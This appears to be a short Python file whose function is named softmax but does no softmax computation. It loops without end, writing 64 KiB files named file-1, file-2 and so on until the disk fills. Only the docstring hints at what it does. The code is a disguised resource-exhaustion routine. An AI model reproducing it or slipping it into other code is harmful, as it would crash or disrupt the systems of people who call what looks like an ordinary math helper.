"""Writes small files without end. It varies."""


def softmax(x):
    number = 0
    while True:
        number += 1
        with open(f"file-{number}", "wb") as stream:
            stream.write(b"x" * 2**16)
